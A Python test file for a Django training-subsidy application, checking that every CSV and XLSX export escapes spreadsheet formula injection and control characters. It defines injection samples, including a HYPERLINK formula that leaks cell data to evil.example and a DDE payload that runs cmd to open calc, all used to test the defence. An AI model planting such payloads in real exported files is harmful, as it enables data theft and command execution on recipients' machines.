"""Issue 10 items 3 and 4: every file SkillUp hands out goes through core/xlsx.py, where text that a
spreadsheet would run as a formula stays text and characters .xlsx cannot hold cannot break the export."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from skillup.core.xlsx import build_workbook, csv_text, safe_text
from skillup.fund.payments import payment_batch_create
from skillup.registry.models import Organisation, Person
from tests.subsidies.factories import advance, claims_for_class

SRC = Path(__file__).resolve().parents[2] / "src" / "skillup"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_ORG = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTROL_NAME = "王\x01五"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-12.50", "-12.50"),  # a negative amount stays a number
        ("+3", "+3"),
        ("张三", "张三"),
        ("a=b", "a=b"),
        ("王\x01五", "王\ufffd五"),
    ],
)
def test_csv_text_never_starts_with_a_formula_trigger(value, expected):
    assert safe_text(value) == expected


def test_a_csv_keeps_numbers_and_round_trips_the_text():
    text = csv_text([["K-1", HOSTILE, Decimal("-5.00"), 7, "-5.00"]], header=["key", "name", "a", "b", "c"])
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row == {"key": "K-1", "name": "'" + HOSTILE, "a": "-5.00", "b": "7", "c": "-5.00"}


def test_an_xlsx_writes_formulas_as_text_and_survives_control_characters():
    content = build_workbook(
        title="测试/导出",
        headers=["姓名", "金额"],
        rows=[[HOSTILE, Decimal("-3.00")], [CONTROL_NAME, Decimal("1.00")], ["-负数开头", -2]],
        money_columns=[1],
        total_columns=[1],
    )
    ws = load_workbook(io.BytesIO(content)).active
    cells = {c.coordinate: c for row in ws.iter_rows() for c in row if c.value is not None}
    assert not [c for c in cells.values() if c.data_type == "f"]
    assert cells["A3"].value == HOSTILE and cells["A3"].data_type == "s"
    assert cells["A4"].value == "王\ufffd五"
    assert cells["B3"].value == Decimal("-3") or cells["B3"].value == -3  # a number, not text
    assert cells["B3"].data_type == "n" and cells["B5"].data_type == "n"


# --- no export bypasses the helper ---------------------------------------------------------------------

WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|text/csv|\.to_excel\(|xlsxwriter")
# The demo builds a sample upload for the certificate import; it exports nothing stored.
ALLOWED = {"core/xlsx.py", "certificates/demo.py"}


def test_only_the_export_helper_writes_workbooks_and_csv():
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if str(path.relative_to(SRC)) not in ALLOWED and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"write exports through skillup.core.xlsx: {offenders}"


def _call_sites() -> int:
    # A list's export through the registry (`export_response(request, "<app>.<name>")`) is a call site too.
    pattern = re.compile(r"(?<!def )\b(xlsx_response|csv_response|export_response)\(")
    return sum(
        len(pattern.findall(path.read_text(encoding="utf-8")))
        for path in SRC.rglob("*.py")
        if str(path.relative_to(SRC)) != "core/xlsx.py"
    )


# Every download, with a role that may fetch it. A new export adds itself here (the count below checks).
EXPORTS = [
    ("hr", "certificate_list", {}, "?format=xlsx"),
    ("hr", "certificate_import", {}, "?template=1"),
    ("hr", "records:import", {}, "?template=1"),
    ("hr", "directory_list", {}, "?format=xlsx"),
    ("hr", "people_list", {}, "?format=xlsx"),
    ("hr", "employment_list", {}, "?export=1"),
    ("hr", "qualification_list", {}, "?export=1"),
    ("hr", "venue_list", {}, "?export=1"),
    ("hr", "institution_list", {}, "?format=xlsx"),
    ("hr", "claim_list", {}, "?format=xlsx"),
    ("hr", "training_class_list", {}, "?format=xlsx"),
    ("dept", "training_approvals", {}, "?format=xlsx"),
    ("institution", "training_roster_template", {}, ""),
    ("finance", "batch_list", {}, "?format=xlsx"),
    ("finance", "failed_payments", {}, "?format=xlsx"),
    ("finance", "reconciliation", {}, "?format=xlsx&month=2021-06"),
    ("finance", "batch_file", {"batch": True}, ""),
    ("finance", "fund_journal", {}, "?format=xlsx"),
    ("hr", "planning:plan_list", {}, "?format=xlsx"),
    ("hr", "planning:report_list", {}, "?format=xlsx"),
    ("hr", "planning:overdue", {}, "?format=xlsx"),
    ("hr", "planning:dashboard", {}, "?format=xlsx"),
    ("hr", "planning:ranking", {}, "?format=xlsx"),
    ("hr", "planning:task_list", {}, "?format=xlsx"),
    ("hr", "api:monthly_report", {}, "?month=2021-05&format=xlsx"),
    ("finance", "api:batch_file", {"batch": True}, ""),
    ("auditor", "audit_list", {}, "?format=xlsx"),
    ("hr", "integrity:findings", {}, "?format=xlsx&min_score=0"),
    ("hr", "spot:draw_export", {"draw": True}, ""),
    ("hr", "integrity:cases", {}, "?format=xlsx"),
    ("finance", "fund_receivables", {}, "?format=xlsx&state=all"),
    ("hr", "programmes:studio_export", {}, ""),
    ("hr", "programmes:base_export", {}, ""),
    ("hr", "programmes:rotations", {}, "?export=1"),
    ("hr", "programmes:registers", {}, "?export=chiefs"),
    ("hr", "programmes:registers", {}, "?export=pilots"),
    ("hr", "programmes:projects", {}, "?export=1"),
    ("hr", "programmes:elite_nominations_export", {}, ""),
    ("hr", "programmes:elite_members_export", {}, ""),
    ("hr", "programmes:articles", {}, "?export=1"),
    ("hr", "programmes:competition_export", {}, ""),
    ("hr", "market_groups:demand", {}, "?format=xlsx"),
]
# Call sites not reached through EXPORTS' URLs: plan and report detail (need a plan or a report; they
# use the same planning.exports builders as plan_list/report_list), the annual report's detail
# (tests/planning/test_annual_report.py), the what-if run (tests/whatif) and
# skillup.exports.views.export_response, which every registered exporter goes through (tests/exports).
OTHER_CALL_SITES = 5


def test_every_export_call_site_is_listed():
    assert _call_sites() == len(EXPORTS) + OTHER_CALL_SITES


@pytest.fixture
def hostile(cast):
    """Claims paid into a batch for people named like formulas or holding a control character (as stored
    before issue 10), from an institution whose name is a formula."""
    claims = advance(cast, claims_for_class(cast, people=2))
    people = [c.person_id for c in claims]
    Person.objects.filter(pk=people[0]).update(name=HOSTILE)
    Person.objects.filter(pk=people[1]).update(name=CONTROL_NAME)
    Organisation.objects.filter(pk=cast.institution_org.pk).update(name=HOSTILE_ORG)
    return payment_batch_create(actor=cast.finance, claim_ids=[c.pk for c in claims])


def _cells(response):
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [v for row in csv.reader(io.StringIO(text)) for v in row], []
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    return [str(c.value) for c in cells], [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize(("role", "name", "kwargs", "query"), EXPORTS, ids=[e[1] for e in EXPORTS])
def test_every_export_keeps_formulas_as_text(cast, hostile, api_client, login, role, name, kwargs, query):
    args = {"batch_id" if name.startswith("api:") else "pk": hostile.pk} if kwargs.get("batch") else {}
    if kwargs.get("draw"):  # a spot-check draw of the month the hostile institution's class ran in
        import datetime as dt

        from skillup.integrity.services_spot import draw_create

        args = {"pk": draw_create(actor=cast.hr, month=dt.date(2021, 5, 1)).pk}
    api = name.startswith("api:")
    url = reverse(name, kwargs=args) + query
    user = getattr(cast, role)
    response = api_client(user).get(url) if api else login(user).get(url)
    assert response.status_code == 200, (url, response.status_code)
    values, formulas = _cells(response)
    assert formulas == [], f"{url}: formula cells {formulas}"
    is_csv = response["Content-Type"].startswith("text/csv")
    for value in values:
        assert "\x01" not in value
        if is_csv:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (url, value)
            assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), (url, value)
    if name in ("people_list", "claim_list", "batch_file", "api:batch_file"):
        expected = ("'" + HOSTILE) if is_csv else HOSTILE
        assert expected in values, url
        assert "王\ufffd五" in values, url
